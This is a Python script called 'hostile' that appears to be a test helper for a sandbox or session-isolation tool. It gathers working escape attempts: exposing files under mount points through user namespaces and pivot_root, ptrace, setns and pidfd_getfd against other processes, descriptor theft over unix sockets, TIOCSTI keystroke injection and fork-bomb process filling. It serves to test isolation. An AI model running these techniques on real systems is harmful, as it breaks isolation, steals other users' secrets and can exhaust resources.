#!/usr/bin/python3
# SPDX-License-Identifier: BSD-3-Clause OR GPL-2.0-or-later
"""
hostile ATTACK [ARGUMENT...]: what a user who wants out would run in a session. Prints one line of JSON: what was got, or why not.
"""

import array
import contextlib
import ctypes
import fcntl
import json
import os
import select
import signal
import socket
import subprocess
import sys
import time

libc = ctypes.CDLL(None, use_errno=True)
CLONE_NEWNS, CLONE_NEWUSER, CLONE_NEWPID, CLONE_NEWNET = 0x00020000, 0x10000000, 0x20000000, 0x40000000
MS_BIND, MS_MOVE, MS_REC, MS_PRIVATE, MNT_DETACH, MNT_EXPIRE = 0x1000, 0x2000, 0x4000, 0x40000, 2, 4
SYS_PIDFD_GETFD, SYS_OPEN_TREE, SYS_MOVE_MOUNT, SYS_MOUNT_SETATTR = 438, 428, 429, 442
OPEN_TREE_CLONE, AT_FDCWD, MOVE_MOUNT_F_EMPTY_PATH = 1, -100, 4
SO_PEERPIDFD = 77
SECRET = "of-the-host"


def check(result):
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result


def attempt(function, *arguments):
    try:
        return function(*arguments)
    except (OSError, subprocess.SubprocessError) as error:
        return f"errno {getattr(error, 'errno', error)}"


def mount(source, target, kind=None, flags=0, data=None):
    check(libc.mount(*(None if text is None else os.fsencode(text) for text in (source, target, kind)),
                     ctypes.c_ulong(flags), None if data is None else os.fsencode(data)))


def become_root_of_a_user_namespace(extra=0):
    uid, gid = os.getuid(), os.getgid()
    check(libc.unshare(CLONE_NEWUSER | CLONE_NEWNS | extra))
    for name, text in (("setgroups", "deny"), ("uid_map", f"0 {uid} 1"), ("gid_map", f"0 {gid} 1")):
        with open(f"/proc/self/{name}", "w", encoding="ascii") as file:
            file.write(text)
    mount(None, "/", None, MS_REC | MS_PRIVATE)


# To see what lies under a mount point: each with the directory to look under and one of the user's own to work in.

def bare(directory, _work):
    return directory


def umount(directory, _work):
    check(libc.umount2(os.fsencode(directory), MNT_DETACH))
    return directory


def expire(directory, _work):
    for _ in range(2):
        if libc.umount2(os.fsencode(directory), MNT_EXPIRE) == 0:
            return directory
    check(-1)


def move_away(directory, work):
    mount(directory, work, None, MS_MOVE)
    return directory


def bind_parent(directory, work):
    parent, name = os.path.split(directory)
    mount(parent, work, None, MS_BIND)
    return f"{work}/{name}"


def bind_parent_recursively_and_umount(directory, work):
    parent, name = os.path.split(directory)
    mount(parent, work, None, MS_BIND | MS_REC)
    check(libc.umount2(os.fsencode(f"{work}/{name}"), MNT_DETACH))
    return f"{work}/{name}"


def open_tree_of_parent(directory, work):
    parent, name = os.path.split(directory)
    tree = check(libc.syscall(SYS_OPEN_TREE, AT_FDCWD, os.fsencode(parent), OPEN_TREE_CLONE))
    check(libc.syscall(SYS_MOVE_MOUNT, tree, b"", AT_FDCWD, os.fsencode(work), MOVE_MOUNT_F_EMPTY_PATH))
    return f"{work}/{name}"


def overlay_parent(directory, work):
    parent, name = os.path.split(directory)
    mount("tmpfs", work, "tmpfs")
    for part in ("upper", "work", "merged"):
        os.mkdir(f"{work}/{part}")
    mount("overlay", f"{work}/merged", "overlay", 0,
          f"lowerdir={parent},upperdir={work}/upper,workdir={work}/work,userxattr")
    return f"{work}/merged/{name}"


def pivot(directory, work):
    parent, name = os.path.split(directory)
    mount(parent, work, None, MS_BIND | MS_REC)
    os.makedirs(f"{work}/old", exist_ok=True)
    check(libc.syscall(155, os.fsencode(work), os.fsencode(f"{work}/old")))
    check(libc.umount2(os.fsencode(f"/{name}"), MNT_DETACH))
    return f"/{name}"


REVEALS = {function.__name__: function for function in (
    bare, umount, expire, move_away, bind_parent, bind_parent_recursively_and_umount, open_tree_of_parent,
    overlay_parent, pivot)}


def reveal(name, directory, work):
    """The names under a mount point, if this way of looking shows the host's file among them."""
    os.makedirs(work, exist_ok=True)
    if os.getuid() != 0:
        become_root_of_a_user_namespace()
    else:
        check(libc.unshare(CLONE_NEWNS))
        mount(None, "/", None, MS_REC | MS_PRIVATE)
    seen = sorted(os.listdir(REVEALS[name](directory, work)))
    return {"found": SECRET in seen, "names": seen[:20]}


# Processes

def marked(mark):
    """The processes whose command line holds a word, wherever a proc is mounted."""
    found = {}
    with open("/proc/self/mountinfo", encoding="utf-8", errors="replace") as table:
        procs = {line.split()[4] for line in table if " - proc " in line}
    for proc in procs:
        for name in os.listdir(proc):
            if name.isdigit() and name != str(os.getpid()):
                with contextlib.suppress(OSError), open(f"{proc}/{name}/cmdline", "rb") as file:
                    if mark.encode() in file.read() and b"hostile" not in open(f"{proc}/{name}/cmdline", "rb").read():
                        found[f"{proc}/{name}"] = attempt(lambda place=f"{proc}/{name}": sorted(
                            os.listdir(f"{place}/root/tmp")))
    return found


def act_on(pid, harmless=False):
    """Everything that could be done to the process with this pid; what succeeds."""
    def trace():
        check(libc.ptrace(16, pid, None, None))  # PTRACE_ATTACH
    def signal_it(number):
        return lambda: os.kill(pid, number)
    def enter():
        check(libc.setns(os.pidfd_open(pid), CLONE_NEWNS))
    def take_fd():
        return check(libc.syscall(SYS_PIDFD_GETFD, os.pidfd_open(pid), 3, 0))
    tries = {
        "root": lambda: os.listdir(f"/proc/{pid}/root"), "cwd": lambda: os.readlink(f"/proc/{pid}/cwd"),
        "fd": lambda: os.listdir(f"/proc/{pid}/fd"), "ns": lambda: os.readlink(f"/proc/{pid}/ns/mnt"),
        "environ": lambda: open(f"/proc/{pid}/environ", "rb").read().decode(), "mem": lambda: open(f"/proc/{pid}/mem", "rb"),
        "exe": lambda: os.readlink(f"/proc/{pid}/exe"), "oom": lambda: open(f"/proc/{pid}/oom_score_adj", "w").write("500"),
        "nice": lambda: os.setpriority(os.PRIO_PROCESS, pid, 19), "affinity": lambda: os.sched_setaffinity(pid, {0}),
        "idle": lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)),
        "limit": lambda: __import__("resource").prlimit(pid, 7, (3, 3)),
        "setns": enter, "getfd": take_fd, "stop": signal_it(signal.SIGSTOP), "continue": signal_it(signal.SIGCONT),
        "trace": trace, "term": signal_it(signal.SIGTERM), "kill": signal_it(signal.SIGKILL),
    }
    if harmless:
        tries = {name: tries[name] for name in ("root", "cwd", "fd", "ns", "environ", "mem", "exe", "setns", "getfd")}
    failed = {name: attempt(function) for name, function in tries.items()}
    return {name: True for name, result in failed.items() if not str(result).startswith("errno")}


def stalk(name, uid, seconds, lease=None):
    """
    Everything that can be done to a process by that name and of that user id, but for its end if it is ours, as long as it
    is that. With a lease of a file of ours, those who open it wait for us meanwhile.
    """
    def is_still(pid):
        with open(f"/proc/{pid}/comm", encoding="utf-8") as comm, open(f"/proc/{pid}/status", encoding="utf-8") as status:
            uids = [line.split()[1] for line in status if line.startswith("Uid:")]
            return comm.read() == name + "\n" and uids == [uid]

    signal.signal(signal.SIGIO, signal.SIG_IGN)
    if lease:
        held = os.open(lease, os.O_RDWR)
        fcntl.fcntl(held, fcntl.F_SETLEASE, fcntl.F_WRLCK)
    print("stalking", flush=True)
    got, looks, end = set(), 0, time.monotonic() + float(seconds)
    while time.monotonic() < end and looks < 20:
        for pid in os.listdir("/proc"):
            with contextlib.suppress(OSError):
                if pid.isdigit() and int(pid) not in (1, os.getpid()) and is_still(pid):
                    found = act_on(int(pid), harmless=uid == str(os.getuid()))
                    # what it was after the look it was before: it goes one way
                    if is_still(pid):
                        got |= set(found)
                        looks += 1
    return {"looks": looks, "got": sorted(got)}


# Sockets

def abstract(name):
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect("\0" + name)
        return {"answer": peer.recv(100).decode()}


def steal(path):
    """Through a socket in a shared directory: who listens there, and what it has open."""
    with socket.socket(socket.AF_UNIX) as peer:
        peer.connect(path)
        pidfd = array.array("i", peer.getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4))[0]
        got = {}
        for number in range(3, 8):
            fd = libc.syscall(SYS_PIDFD_GETFD, pidfd, number, 0)
            if fd >= 0:
                got[number] = attempt(os.listdir, fd)
        return {"stolen": got, "killed": attempt(signal.pidfd_send_signal, pidfd, 0)}


# To keep a session alive, or the remains of it

def orphans(count, seconds):
    """So many processes whose parents have ended, and one that makes more, as fast as it can, which end at once."""
    end = time.monotonic() + float(seconds)
    if os.fork() > 0:
        return {}
    os.setsid()
    os.closerange(0, 3)
    made = 0
    while time.monotonic() < end:
        child = os.fork()
        if child == 0:
            if os.fork() == 0 and made < int(count):
                time.sleep(max(0, end - time.monotonic()))
            os._exit(0)
        os.waitpid(child, 0)
        made += 1
    os._exit(0)


def fill():
    """As many processes as there may be of this user, whose number is the kernel's, until our input ends."""
    full = False
    while True:
        try:
            if os.fork() == 0:
                time.sleep(1000)
        except BlockingIOError:
            if not full:
                print("in", flush=True)
            full = True
            if select.select([0], [], [], 0.001)[0]:
                return {}


def type_in(text):
    """Into whatever terminal there is; who reads from it next takes it for typed."""
    for byte in text.encode():
        fcntl.ioctl(0, 0x5412, bytes([byte]))  # TIOCSTI
    return {}


def hold_exit(pid):
    """A process that is traced stops once more as it exits, killed or not."""
    check(libc.ptrace(0x4206, int(pid), None, ctypes.c_void_p(0x40)))  # PTRACE_SEIZE, PTRACE_O_TRACEEXIT
    print("held", flush=True)
    time.sleep(1000)


def main(attack, *arguments):
    functions = {"reveal": reveal, "marked": marked, "abstract": abstract, "steal": steal, "stalk": stalk,
                 "act_on": lambda pid: act_on(int(pid)), "look_at": lambda pid: act_on(int(pid), harmless=True),
                 "orphans": orphans, "hold_exit": hold_exit, "type_in": type_in, "fill": fill}
    print(json.dumps(attempt(functions[attack], *arguments)), flush=True)


if __name__ == "__main__":
    main(*sys.argv[1:])
